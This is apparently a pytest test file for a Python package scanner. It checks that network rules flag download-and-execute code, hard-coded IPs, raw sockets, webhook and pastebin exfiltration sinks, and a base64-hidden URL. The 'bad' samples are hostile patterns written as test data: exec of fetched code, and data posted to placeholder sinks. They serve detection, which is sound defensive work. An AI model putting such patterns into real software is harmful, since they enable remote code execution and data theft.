"""Network rules: download-and-execute, hard-coded IPs, raw sockets, exfiltration and paste sinks."""

from __future__ import annotations

from pathlib import Path

import pytest

from jupyter_safepip.core.model import Severity
from tests.support.archives import scan_sdist, scan_wheel, severity

CASES = [
    (
        "network-download-exec",
        "import requests\nexec(requests.get('https://example.invalid/p.py').text)\n",
        "import requests\ndata = requests.get('https://example.invalid/p.json').json()\n",
    ),
    (
        "network-download-exec",
        "import urllib.request, os\n"
        "def go():\n    urllib.request.urlretrieve('https://example.invalid/a', 'a')\n    os.chmod('a', 0o755)\n",
        "import urllib.request, os\n"
        "def go():\n    urllib.request.urlretrieve('https://example.invalid/a', 'a')\n\ndef other():\n    os.chmod('b', 0o644)\n",
    ),
    (
        "network-hardcoded-ip",
        "import requests\nrequests.post('http://203.0.113.9:8080/c', data='x')\nrequests.get('http://93.184.216.34/x')\n",
        "import requests\nrequests.get('http://127.0.0.1:8000/x')\nrequests.get('http://192.168.1.2/x')\n",
    ),
    (
        "network-raw-socket",
        "import socket\ns = socket.socket()\n",
        "import socket\nname = socket.gethostbyname('localhost')\n",
    ),
    (
        "network-exfil-sink",
        "URL = 'https://webhook.site/0000-1111'\n",
        "URL = 'https://example.org/site/0000-1111'\n",
    ),
    (
        "network-paste-sink",
        "URL = 'https://pastebin.com/raw/abcd'\nHOOK = 'https://discord.com/api/webhooks/123/abc'\n",
        "URL = 'https://example.org/raw/abcd'\n",
    ),
    (
        "network-fetch",
        "import requests\nrequests.get('https://example.invalid')\n",
        "import json\njson.loads('{}')\n",
    ),
]


@pytest.mark.parametrize(("rule", "bad", "good"), CASES)
def test_rule_fires_on_bad_and_not_on_good(tmp_path: Path, rule: str, bad: str, good: str) -> None:
    assert severity(scan_wheel(tmp_path / "bad", {"demo/mod.py": bad}), rule) is not None
    assert severity(scan_wheel(tmp_path / "good", {"demo/mod.py": good}), rule) is None


def test_sink_mentioned_only_in_a_docstring_is_ignored(tmp_path: Path) -> None:
    code = '"""Send results to a webhook such as https://discord.com/api/webhooks/<id>."""\n'
    assert severity(scan_wheel(tmp_path, {"demo/mod.py": code}), "network-paste-sink") is None


def test_web_request_in_library_is_info_but_medium_in_setup_py(tmp_path: Path) -> None:
    code = "import requests\nrequests.get('https://example.invalid')\n"
    assert severity(scan_wheel(tmp_path / "w", {"demo/mod.py": "def f():\n    " + code.replace("\n", "\n    ")}), "network-fetch") is Severity.INFO
    assert severity(scan_sdist(tmp_path / "s", {"setup.py": code}), "network-fetch") is Severity.MEDIUM


def test_encoded_address_decoded_in_a_helper(tmp_path: Path) -> None:
    code = (
        "import base64, requests\n"
        "_HOST = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw=='\n"
        "def _endpoint():\n    return base64.b64decode(_HOST).decode()\n"
        "def send(data):\n    requests.post(_endpoint(), json=data)\n"
    )
    assert severity(scan_wheel(tmp_path / "a", {"demo/mod.py": code}), "network-hidden-url") is Severity.MEDIUM
    plain = "import requests\ndef send(data):\n    requests.post('https://example.invalid/c', json=data)\n"
    assert severity(scan_wheel(tmp_path / "b", {"demo/mod.py": plain}), "network-hidden-url") is None
